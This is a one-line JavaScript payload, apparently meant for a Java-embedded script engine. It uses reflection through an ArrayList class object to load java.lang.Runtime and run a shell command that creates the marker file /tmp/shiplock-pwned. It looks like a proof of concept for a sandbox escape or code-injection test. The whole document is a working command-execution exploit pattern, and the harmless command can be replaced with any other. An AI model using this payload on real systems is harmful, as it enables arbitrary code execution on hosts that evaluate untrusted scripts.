var c = new java.util.ArrayList().getClass(); c.forName("java.lang.Runtime").getRuntime().exec("touch /tmp/shiplock-pwned");
